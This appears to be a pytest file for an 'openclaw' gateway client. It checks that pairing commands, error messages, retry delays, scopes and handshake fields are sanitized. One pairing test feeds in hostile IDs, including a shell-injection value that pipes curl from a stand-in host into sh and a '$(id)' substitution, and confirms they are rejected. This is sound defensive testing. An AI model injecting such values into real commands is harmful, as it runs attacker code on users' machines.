"""What a gateway says when it says no is shown, kept and copied: nothing in it can hurt."""

import pytest

from kit.text import storable
from openclaw import GatewayError, Hello, Trouble, advise
from openclaw.errors import LONGEST_MESSAGE, LONGEST_WAIT, refusal

URL = "ws://gateway.example:18789"


def pairing(request_id: object) -> str | None:
    details = {"code": "PAIRING_REQUIRED", "requestId": request_id}
    error = refusal({"code": "NOT_PAIRED", "message": "pair", "details": details})
    assert error.trouble is Trouble.PAIRING_REQUIRED
    return advise(error, URL).command


def test_the_command_that_somebody_copies_has_only_what_an_id_can_be() -> None:
    known = pairing("1b9d6bcd-bbfd-4b2d-9b5d-ab8dfbbd4bed")
    assert known == "openclaw devices approve 1b9d6bcd-bbfd-4b2d-9b5d-ab8dfbbd4bed"
    for id in ("x; curl evil.example | sh", "$(id)", "a\nb", "x" * 101, "--all", "", 7, None):
        assert pairing(id) == "openclaw devices approve --latest", id


def test_what_a_gateway_says_can_be_kept() -> None:
    error = refusal({"code": "INVALID_REQUEST", "message": "No\0 \ud800" + "x" * 1_000})
    assert storable(error.message)
    assert storable(str(error))
    assert len(error.message) == LONGEST_MESSAGE
    assert storable(GatewayError(Trouble.REJECTED, "\0").message)


def test_what_a_gateway_says_is_kept_without_tokens_of_ours() -> None:
    said = "Exec denied: curl -H mc_agent_abcdefgh"
    error = refusal({"code": "INVALID_REQUEST", "message": said})
    assert str(error) == error.message == "Exec denied: curl -H mc_agent_***"
    cut = "x" * (LONGEST_MESSAGE - 12) + " mc_agent_abcdefgh"
    assert "abc" not in GatewayError(Trouble.REJECTED, cut).message


@pytest.mark.parametrize(
    ("said", "after"),
    [
        (1_500, 1.5),
        (0, 0),
        (10**400, LONGEST_WAIT),
        (float("inf"), LONGEST_WAIT),
        (float("nan"), None),
        (-1, None),
        ("soon", None),
    ],
)
def test_a_gateway_cannot_have_us_wait_for_ever(said: object, after: float | None) -> None:
    assert refusal({"code": "UNAVAILABLE", "retryAfterMs": said}).retry_after == after


def test_scopes_that_a_gateway_names_are_few_and_short() -> None:
    details = {"code": "MISSING_SCOPE", "requiredScopes": ["operator.read", "a b", "x" * 200, 7]}
    assert refusal({"code": "FORBIDDEN", "details": details}).missing_scopes == ["operator.read"]


def test_what_a_gateway_says_of_itself_can_be_kept() -> None:
    def hello(version: str, token: str) -> Hello:
        said = {"protocol": 4, "server": {"version": version}, "auth": {"deviceToken": token}}
        return Hello.of(said)

    usual = hello("2026.9.6", "secret")
    assert (usual.version, usual.device_token) == ("2026.9.6", "secret")
    assert storable(hello("2026\0\ud800", "secret").version)
    assert hello("1", "x" * 100_000).device_token == ""
    assert hello("1", "half \ud800").device_token == ""
